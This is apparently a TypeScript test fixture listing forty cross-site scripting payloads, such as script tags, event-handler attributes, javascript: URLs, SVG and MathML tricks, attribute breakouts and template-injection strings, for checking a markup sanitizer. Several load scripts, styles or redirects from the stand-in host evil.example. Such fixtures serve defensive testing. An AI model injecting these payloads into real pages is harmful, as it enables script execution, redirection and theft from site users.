/**
 * Forty texts that are a script to a page that takes text for markup. Each would call alert or hit(), or load from
 * evil.example. At most 80 characters, so that each fits a name.
 */
export const SCRIPT_PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>',
  '<script src=https://evil.example/x.js></script>',
  '</script><script>hit()</script>',
  '<ScRiPt>hit()</sCrIpT>',
  '<script>hit()<!--',
  '<<script>hit()//<</script>',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror="hit()">',
  "<img src='x' onerror='hit()'>",
  '<img/src/onerror=hit()>',
  '<img src=https://evil.example/x.png>',
  '<svg onload=hit()>',
  '<svg><script>hit()</script></svg>',
  '<svg><animate onbegin=hit() attributeName=x dur=1s>',
  '<body onload=hit()>',
  '<iframe src="javascript:parent.hit()"></iframe>',
  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  '<object data="javascript:hit()"></object>',
  '<embed src=https://evil.example/x.swf>',
  '<a href="javascript:hit()">click</a>',
  '<a href="data:text/html,<script>hit()</script>">click</a>',
  '<form action=https://evil.example><input type=submit>',
  '<input autofocus onfocus=hit()>',
  '<details open ontoggle=hit()>',
  '<video><source onerror=hit()></video>',
  '<audio src=x onerror=hit()>',
  '<marquee onstart=hit()>',
  '<math><mtext><style><img src=x onerror=hit()></style></mtext></math>',
  '<style>@import"https://evil.example/x.css";</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href=https://evil.example/>',
  '<template><script>hit()</script></template>',
  '"><script>hit()</script>',
  "'><img src=x onerror=hit()>",
  '" onmouseover="hit()" autofocus onfocus="hit()" x="',
  'javascript:hit()',
  '{{constructor.constructor("hit()")()}}',
  '${hit()}',
  '&lt;img src=x onerror=hit()&gt;&#60;script&#62;hit()&#60;/script&#62;',
];

/** All of them as one text. */
export const ALL_PAYLOADS: string = SCRIPT_PAYLOADS.join(' ');
